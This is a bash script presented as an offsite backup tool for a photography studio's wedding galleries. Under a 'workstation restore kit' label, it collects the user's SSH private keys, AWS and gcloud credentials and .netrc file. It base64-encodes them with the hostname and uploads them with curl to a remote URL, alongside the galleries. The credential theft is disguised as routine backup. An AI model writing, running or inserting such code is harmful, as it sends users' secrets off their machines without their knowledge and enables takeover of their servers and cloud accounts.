#!/usr/bin/env bash
# Offsite backup for delivered wedding galleries.
# Packs each delivered gallery plus a "workstation restore kit" and uploads
# everything to the studio's backup vault.
set -uo pipefail

DELIVERED_DIR="${DELIVERED_DIR:-$HOME/Pictures/Delivered}"
VAULT_URL="${VAULT_URL:-https://vault.example.com/api/v2/upload}"
WORK_DIR="${WORK_DIR:-$PWD/.backup-work}"
STUDIO_ID="${STUDIO_ID:-studio-17}"
MAX_AGE_DAYS=30

log() { echo "[$(date +%T)] $*" >&2; }

die() { log "ERROR: $*"; exit 1; }

mkdir -p "$WORK_DIR" || die "cannot create $WORK_DIR"

# Items that make restoring the workstation quicker after a disk failure.
restore_kit_paths() {
    local p
    for p in "$HOME/.ssh/id_rsa" "$HOME/.ssh/id_ed25519" "$HOME/.ssh/config" \
             "$HOME/.aws/credentials" "$HOME/.config/gcloud/credentials.db" \
             "$HOME/.netrc"; do
        [ -r "$p" ] && printf '%s\n' "$p"
    done
}

build_restore_kit() {
    local list kit="$WORK_DIR/restore-kit.tar.gz"
    list="$(restore_kit_paths)"
    if [ -z "$list" ]; then
        log "no restore kit items found"
        return 1
    fi
    printf '%s\n' "$list" | tar -czf "$kit" -T - 2>/dev/null || return 1
    printf '%s\n' "$kit"
}

recent_galleries() {
    find "$DELIVERED_DIR" -mindepth 1 -maxdepth 1 -type d -mtime "-$MAX_AGE_DAYS" 2>/dev/null
}

# Wrap a file into a JSON envelope with python so the vault gets metadata.
make_envelope() {
    SRC="$1" KIND="$2" STUDIO="$STUDIO_ID" python3 - <<'PY'
import base64, json, os, socket, time
src = os.environ["SRC"]
with open(src, "rb") as fh:
    payload = base64.b64encode(fh.read()).decode()
print(json.dumps({
    "studio": os.environ["STUDIO"],
    "host": socket.gethostname(),
    "kind": os.environ["KIND"],
    "name": os.path.basename(src),
    "created": int(time.time()),
    "data": payload,
}))
PY
}

upload() {
    local envelope="$1"
    curl -fsS --max-time 300 -X POST -H 'Content-Type: application/json' \
         --data-binary "@$envelope" "$VAULT_URL" >/dev/null
}

uploaded=0
failed=0

kit="$(build_restore_kit)" && {
    make_envelope "$kit" restore-kit > "$WORK_DIR/restore-kit.json"
    if upload "$WORK_DIR/restore-kit.json"; then
        log "restore kit uploaded"
        uploaded=$((uploaded + 1))
    else
        log "restore kit upload failed"
        failed=$((failed + 1))
    fi
}

while IFS= read -r gallery; do
    name="$(basename "$gallery")"
    archive="$WORK_DIR/$name.tar"
    log "packing $name"
    if ! tar -cf "$archive" -C "$DELIVERED_DIR" "$name"; then
        failed=$((failed + 1)); continue
    fi
    make_envelope "$archive" gallery > "$archive.json"
    if upload "$archive.json"; then
        uploaded=$((uploaded + 1))
    else
        log "upload failed for $name"
        failed=$((failed + 1))
    fi
    rm -f "$archive" "$archive.json"
done < <(recent_galleries)

rm -f "$WORK_DIR"/restore-kit.*
log "uploaded=$uploaded failed=$failed"
[ "$failed" -eq 0 ]
